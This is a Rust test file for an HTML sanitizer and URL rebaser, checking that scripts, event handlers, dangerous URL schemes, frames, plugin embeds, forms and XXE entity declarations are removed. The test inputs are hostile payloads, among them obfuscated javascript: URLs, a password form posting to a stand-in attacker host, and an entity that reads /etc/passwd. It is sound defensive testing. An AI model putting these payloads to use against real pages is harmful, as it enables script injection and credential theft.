//! Security tests
//!
//! This suite feeds hostile markup through the public pipeline and checks
//! that no script, form submission, frame or plugin embed, or dangerous URL
//! scheme survives, while ordinary content does.

use html_rebaser::pipeline::{Rewriter, sanitize_and_rebase};
use html_rebaser::policy::ContentPolicy;
use proptest::prelude::*;

const ORIGIN: &str = "https://example.com/page/";

fn rewrite(html: &str) -> String {
    sanitize_and_rebase(html, ORIGIN)
        .expect("valid origin")
        .html
}

/// Test that script tags are completely removed from output
#[test]
fn test_xss_script_tag_removal() {
    let html = rewrite(
        r#"<html><body>
        <p>Before dangerous element</p>
        <script>alert('xss')</script>
        <p>After dangerous element</p>
    </body></html>"#,
    );

    assert!(!html.contains("<script"));
    assert!(!html.contains("</script"));
    assert!(!html.contains("alert"));
    assert!(!html.contains("xss"));

    assert!(html.contains("Before dangerous element"));
    assert!(html.contains("After dangerous element"));
}

/// Test that inline script tags are removed
#[test]
fn test_xss_inline_script_removal() {
    let html = rewrite(r#"<p>Text <script>malicious()</script> more text</p>"#);

    assert!(!html.contains("script"));
    assert!(!html.contains("malicious"));
    assert!(html.contains("<p>Text  more text</p>"), "{html}");
}

/// Test that event handler attributes are removed
#[test]
fn test_xss_event_handler_removal() {
    let html = rewrite(
        r#"<html><body>
        <p onclick="alert('xss')">Click me</p>
        <div onload="malicious()">Content</div>
        <a href="test.html" onmouseover="attack()">Link</a>
    </body></html>"#,
    );

    assert!(!html.contains("onclick"));
    assert!(!html.contains("onload"));
    assert!(!html.contains("onmouseover"));
    assert!(!html.contains("alert"));
    assert!(!html.contains("malicious"));
    assert!(!html.contains("attack"));

    assert!(html.contains("<p>Click me</p>"));
    assert!(html.contains("<div>Content</div>"));
    assert!(html.contains(r#"href="https://example.com/page/test.html""#));
}

/// Test that javascript: URLs in links are removed
#[test]
fn test_xss_javascript_url_in_link() {
    let html = rewrite(r#"<a href="javascript:alert('xss')">Click me</a>"#);

    assert!(!html.contains("javascript:"));
    assert!(!html.contains("alert"));
    assert!(html.contains("<a>Click me</a>"), "{html}");
}

/// Test that javascript: URLs are detected regardless of case and padding
#[test]
fn test_xss_javascript_url_case_insensitive() {
    let html = rewrite(concat!(
        r#"<a href="JavaScript:alert('xss')">One</a>"#,
        r#"<a href="JAVASCRIPT:alert('xss')">Two</a>"#,
        r#"<a href="  javascript:alert('xss')">Three</a>"#,
        r#"<a href="java&#x0A;script:alert('xss')">Four</a>"#,
        r#"<a href="&#106;avascript:alert('xss')">Five</a>"#,
    ));

    assert!(!html.to_lowercase().contains("script:"), "{html}");
    assert!(!html.contains("alert"));
    for label in ["One", "Two", "Three", "Four", "Five"] {
        assert!(html.contains(&format!("<a>{label}</a>")), "{html}");
    }
}

/// Test that data: URLs in links are removed
#[test]
fn test_xss_data_url_in_link() {
    let html = rewrite(r#"<a href="data:text/html,<script>alert('xss')</script>">Click</a>"#);

    assert!(!html.contains("data:"));
    assert!(!html.contains("alert"));
    assert!(html.contains("<a>Click</a>"));
}

/// Test that javascript: URLs in images are removed
#[test]
fn test_xss_javascript_url_in_image() {
    let html = rewrite(r#"<img src="javascript:alert('xss')" alt="Image">"#);

    assert!(!html.contains("javascript:"));
    assert!(html.contains(r#"<img alt="Image">"#), "{html}");
}

/// Test that data: URLs in images are kept, they cannot run script
#[test]
fn test_data_url_in_image_allowed() {
    let html = rewrite(r#"<img src="data:image/png;base64,iVBORw0KGgo=" alt="Dot">"#);

    assert!(html.contains(r#"src="data:image/png;base64,iVBORw0KGgo=""#), "{html}");
}

/// Test that data: URLs on other media elements are removed
#[test]
fn test_xss_data_url_in_media() {
    let html = rewrite(r#"<video src="data:text/html,x" poster="data:image/svg+xml,y"></video>"#);

    assert!(!html.contains("data:"), "{html}");
}

/// Test that safe URLs are kept and rebased
#[test]
fn test_safe_urls_preserved() {
    let html = rewrite(
        r#"<html><body>
        <a href="https://example.org">HTTPS Link</a>
        <a href="http://example.org">HTTP Link</a>
        <a href="/relative/path">Relative Link</a>
        <a href="mailto:someone@example.org">Mail</a>
        <img src="https://example.org/image.png" alt="Image">
    </body></html>"#,
    );

    assert!(html.contains(r#"href="https://example.org""#));
    assert!(html.contains(r#"href="http://example.org""#));
    assert!(html.contains(r#"href="https://example.com/relative/path""#));
    assert!(html.contains(r#"href="mailto:someone@example.org""#));
    assert!(html.contains(r#"src="https://example.org/image.png""#));
}

/// Test that iframes are removed with their content
#[test]
fn test_ssrf_iframe_removal() {
    let html = rewrite(
        r#"<html><body>
        <p>Before iframe</p>
        <iframe src="http://internal.network/admin"><p>fallback</p></iframe>
        <p>After iframe</p>
    </body></html>"#,
    );

    assert!(!html.contains("iframe"));
    assert!(!html.contains("internal.network"));
    assert!(html.contains("Before iframe"));
    assert!(html.contains("After iframe"));
}

/// Test that object tags are removed
#[test]
fn test_ssrf_object_removal() {
    let html = rewrite(
        r#"<object data="http://internal.network/file.swf"><param name="x" value="y">Fallback</object><p>Content</p>"#,
    );

    assert!(!html.contains("object"));
    assert!(!html.contains("param"));
    assert!(!html.contains("internal.network"));
    assert!(!html.contains("Fallback"));
    assert!(html.contains("<p>Content</p>"));
}

/// Test that embed tags are removed
#[test]
fn test_ssrf_embed_removal() {
    let html = rewrite(r#"<embed src="http://internal.network/plugin"><p>Content</p>"#);

    assert!(!html.contains("embed"));
    assert!(!html.contains("internal.network"));
    assert!(html.contains("<p>Content</p>"));
}

/// Test that file: URLs are blocked
#[test]
fn test_ssrf_file_url_blocked() {
    let html = rewrite(r#"<a href="file:///etc/passwd">Passwords</a><img src="file:///etc/shadow">"#);

    assert!(!html.contains("file:"));
    assert!(!html.contains("/etc/"));
    assert!(html.contains("<a>Passwords</a>"));
}

/// Test that forms are removed along with submission targets
#[test]
fn test_form_submission_removed() {
    let html = rewrite(
        r#"<form action="https://evil.example/steal" method="post">
            <input name="password" type="password">
            <button formaction="https://evil.example/other">Send</button>
        </form>
        <button formaction="https://evil.example/x" formtarget="_top">Loose</button>"#,
    );

    assert!(!html.contains("<form"));
    assert!(!html.contains("evil.example"));
    assert!(!html.contains("password"));
    assert!(html.contains("<button>Loose</button>"), "{html}");
}

/// Test that forms kept by policy still cannot submit anywhere
#[test]
fn test_allowed_form_has_no_action() {
    let policy = ContentPolicy::default().allow_tags(["form"]);
    let page = Rewriter::new(&policy)
        .sanitize_and_rebase(
            r#"<form action="https://evil.example/steal"><input name="q"></form>"#,
            ORIGIN,
        )
        .expect("valid origin");

    assert!(page.html.contains(r#"<form><input name="q"></form>"#), "{}", page.html);
}

/// Test that DOCTYPE internal subsets cannot introduce entities
#[test]
fn test_xxe_prevention_doctype() {
    let html = rewrite(
        r#"<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
    <html><body><p>&xxe;</p></body></html>"#,
    );

    assert!(!html.contains("root:"));
    assert!(!html.contains("/etc/passwd"));
}

/// Test that external entity references are not expanded
#[test]
fn test_xxe_prevention_external_entity() {
    let html = rewrite(
        r#"<!DOCTYPE foo [<!ENTITY ext SYSTEM "http://evil.example/data">]>
    <p>&ext;</p>"#,
    );

    assert!(!html.contains("evil.example"));
    assert!(html.contains("&amp;ext;"), "{html}");
}

/// Test that meta refresh cannot navigate the viewer
#[test]
fn test_meta_refresh_neutralized() {
    let html = rewrite(
        r#"<head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><p>Content</p>"#,
    );

    assert!(!html.contains("http-equiv"));
    assert!(html.contains("<p>Content</p>"));
}

/// Test that style tags are kept, their urls rebased and scripts stripped
#[test]
fn test_style_tag_kept_and_rebased() {
    let html = rewrite(
        r#"<head><style>body { background: url(bg.png) }</style></head><body><p>Content</p></body>"#,
    );

    assert!(html.contains("url('https://example.com/page/bg.png')"), "{html}");
}

/// Test that a hostile base tag cannot point the document at a script URL
#[test]
fn test_base_tag_javascript_href() {
    let html = rewrite(
        r#"<head><base href="javascript:alert(1)//"></head><body><a href="x">Link</a></body>"#,
    );

    assert!(!html.contains("javascript:"));
    assert!(html.contains(r#"<base href="https://example.com/page/">"#), "{html}");
    assert!(html.contains(r#"href="https://example.com/page/x""#), "{html}");
    assert_eq!(html.matches("<base").count(), 1);
}

/// Test that a document base cannot redirect relative references elsewhere
#[test]
fn test_foreign_base_does_not_hijack_references() {
    let html = rewrite(concat!(
        r#"<head><base href="https://cdn.other.net/x/"></head>"#,
        r#"<body><a href="b.html">b</a><img src="i.png" srcset="i2.png 2x">"#,
        r#"<div style="background:url(bg.png)"></div></body>"#,
    ));

    assert!(!html.contains("cdn.other.net"), "{html}");
    assert!(html.contains(r#"href="https://example.com/page/b.html""#), "{html}");
    assert!(html.contains(r#"src="https://example.com/page/i.png""#), "{html}");
    assert!(html.contains(r#"srcset="https://example.com/page/i2.png 2x""#), "{html}");
    assert!(html.contains("url('https://example.com/page/bg.png')"), "{html}");
    assert!(html.contains(r#"<base href="https://example.com/page/">"#), "{html}");
}

/// Test deeply nested HTML (stack overflow prevention)
#[test]
fn test_deeply_nested_html() {
    let mut input = String::from("<html><body>");
    for _ in 0..100 {
        input.push_str("<div>");
    }
    input.push_str("<p>Deep content</p>");
    for _ in 0..100 {
        input.push_str("</div>");
    }
    input.push_str("</body></html>");

    assert!(rewrite(&input).contains("Deep content"));
}

/// Test that nesting beyond the policy limit is cut off
#[test]
fn test_excessive_nesting_removed() {
    let input = "<div>".repeat(5000) + "bottom";

    let html = rewrite(&input);
    assert!(!html.contains("bottom"));
    assert!(html.ends_with("</html>"));
}

/// Test multiple XSS vectors in one document
#[test]
fn test_multiple_xss_vectors() {
    let html = rewrite(
        r#"<html><body>
        <script>alert('xss1')</script>
        <p onclick="alert('xss2')">Click</p>
        <a href="javascript:alert('xss3')">Link</a>
        <img src="javascript:alert('xss4')" alt="Image">
        <iframe src="javascript:alert('xss5')"></iframe>
        <object data="javascript:alert('xss6')"></object>
        <embed src="javascript:alert('xss7')">
        <svg><script>alert('xss8')</script></svg>
        <math><mtext><img src=x onerror="alert('xss9')"></mtext></math>
        <p>Safe content</p>
    </body></html>"#,
    );

    assert!(!html.contains("script"));
    assert!(!html.contains("onclick"));
    assert!(!html.contains("onerror"));
    assert!(!html.contains("javascript:"));
    assert!(!html.contains("iframe"));
    assert!(!html.contains("object"));
    assert!(!html.contains("embed"));
    assert!(!html.contains("svg"));
    assert!(!html.contains("alert"));
    assert!(!html.contains("xss"));

    assert!(html.contains("Safe content"));
    assert!(html.contains("Click"));
}

/// Test that vbscript: URLs are blocked
#[test]
fn test_vbscript_url_blocked() {
    let html = rewrite(r#"<a href="vbscript:msgbox('xss')">Click</a>"#);

    assert!(!html.contains("vbscript:"));
    assert!(!html.contains("msgbox"));
    assert!(html.contains("Click"));
}

/// Test that about: URLs are blocked
#[test]
fn test_about_url_blocked() {
    let html = rewrite(r#"<a href="about:blank">About</a>"#);

    assert!(!html.contains("about:"));
    assert!(html.contains("About"));
}

/// Test that srcset cannot smuggle a script URL
#[test]
fn test_srcset_script_candidate_blocked() {
    let html = rewrite(r#"<img srcset="ok.png 1x, javascript:alert(1) 2x" alt="a">"#);

    assert!(!html.contains("javascript:"));
    assert!(!html.contains("srcset"));
}

/// Test that documents cannot forge the internal link marker
#[test]
fn test_internal_link_marker_not_forgeable() {
    let html = rewrite(r#"<a data-rebased-link="true">No href</a><span data-rebased-link="1">s</span>"#);

    assert!(!html.contains("data-rebased-link"), "{html}");
}

/// Test security inside tables
#[test]
fn test_table_security() {
    let html = rewrite(
        r#"<table>
        <tr><th onclick="alert('xss')">Header</th></tr>
        <tr><td><a href="javascript:alert('xss')">Link</a></td></tr>
    </table>"#,
    );

    assert!(html.contains("Header"));
    assert!(!html.contains("onclick"));
    assert!(!html.contains("javascript:"));
    assert!(!html.contains("alert"));
}

proptest! {
    #[test]
    fn prop_no_script_onerror_or_javascript_href(
        text in "[a-zA-Z0-9 .,]{0,30}",
        scheme_case in prop::sample::select(vec!["javascript", "JavaScript", "JAVASCRIPT", " javascript"]),
        handler in prop::sample::select(vec!["onerror", "ONERROR", "onError", "onload", "onclick"]),
    ) {
        let input = format!(
            r#"<p>{text}</p><script>steal()</script><img src="a.png" {handler}="steal()"><a href="{scheme_case}:steal()">{text}</a>"#
        );
        let html = rewrite(&input);
        let lower = html.to_lowercase();

        prop_assert!(!lower.contains("<script"), "{}", html);
        prop_assert!(!lower.contains(&handler.to_lowercase()), "{}", html);
        prop_assert!(!lower.contains("javascript:"), "{}", html);
        prop_assert!(!html.contains("steal"), "{}", html);
    }
}
